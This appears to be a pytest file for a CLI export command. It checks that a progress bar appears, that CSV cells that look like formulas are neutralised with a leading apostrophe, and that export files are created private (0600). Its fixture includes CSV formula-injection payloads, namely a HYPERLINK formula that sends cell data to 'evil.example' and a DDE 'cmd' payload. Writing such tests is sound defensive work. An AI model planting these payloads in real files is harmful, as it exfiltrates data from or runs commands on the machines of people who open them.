"""`corral export`: the progress bar, and what an export file may hold and who may read it."""

from __future__ import annotations

import csv
import datetime
import io
import os
import stat

from addon.cli.export import Progress
from addon.cli.main import main
from addon.storage import db as dbmod
from addon.storage.models import Flow
from tests.support.reliability import reliability


def test_progress_bar_on_stderr_for_large_exports(tmp_path) -> None:
    buf = io.StringIO()
    p = Progress(2000, buf, enabled=True)
    for _ in range(2000):
        p.step()
    p.close()
    assert "100% 2000/2000" in buf.getvalue() and buf.getvalue().count("\r") == 101
    quiet = io.StringIO()
    Progress(10, quiet, enabled=True).step()
    assert quiet.getvalue() == ""  # small exports stay silent


def _record(tmp_path) -> str:
    url = f"sqlite:///{tmp_path / 'corral.db'}"
    dbmod.connect(url)
    Flow.create(
        id="f1", started_at=datetime.datetime(2026, 1, 2, 3, 4, 5), mode="reverse", provider="openai", method="POST",
        path="/v1/chat?x=1", model='=HYPERLINK("http://evil.example/?"&A1,"click")', status=200,
        error="+cmd|' /C calc'!A0", parse_error="@SUM(1+1)", client="-2+3", request_body="\t=1+1",
        response_text="\r=2", response_body="plain = text", cost_usd=0.5,
    )
    (tmp_path / "corral.toml").write_text("")
    return url


def export(tmp_path, url: str, *args: str) -> int:
    return main(["export", "--db", url, "--config", str(tmp_path / "corral.toml"), *args])


@reliability("file safety", "CSV export of cells starting with = + - @ (formula injection)", "-",
             "the cell is written with a leading ' so a spreadsheet shows it as text")
def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(tmp_path) -> None:
    url = _record(tmp_path)
    out = tmp_path / "flows.csv"
    assert export(tmp_path, url, "--format", "csv", "-o", str(out)) == 0
    row = next(csv.DictReader(out.open(newline="")))
    assert row["model"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["error"] == "'+cmd|' /C calc'!A0" and row["parse_error"] == "'@SUM(1+1)"
    assert row["client"] == "'-2+3" and row["request_body"] == "'\t=1+1" and row["response_text"] == "'\r=2"
    assert row["response_body"] == "plain = text" and row["cost_usd"] == "0.5" and row["status"] == "200"


@reliability("file safety", "export file (-o) holding prompts", "-", "created 0600, like the database")
def test_export_files_are_private(tmp_path) -> None:
    url = _record(tmp_path)
    old = os.umask(0o022)
    try:
        for fmt in ("jsonl", "csv", "har"):
            out = tmp_path / f"flows.{fmt}"
            assert export(tmp_path, url, "--format", fmt, "-o", str(out)) == 0
            assert stat.S_IMODE(out.stat().st_mode) == 0o600, fmt
        existing = tmp_path / "shared.jsonl"
        existing.write_text("old")
        existing.chmod(0o644)
        assert export(tmp_path, url, "-o", str(existing)) == 0
        assert stat.S_IMODE(existing.stat().st_mode) == 0o600 and "f1" in existing.read_text()
    finally:
        os.umask(old)
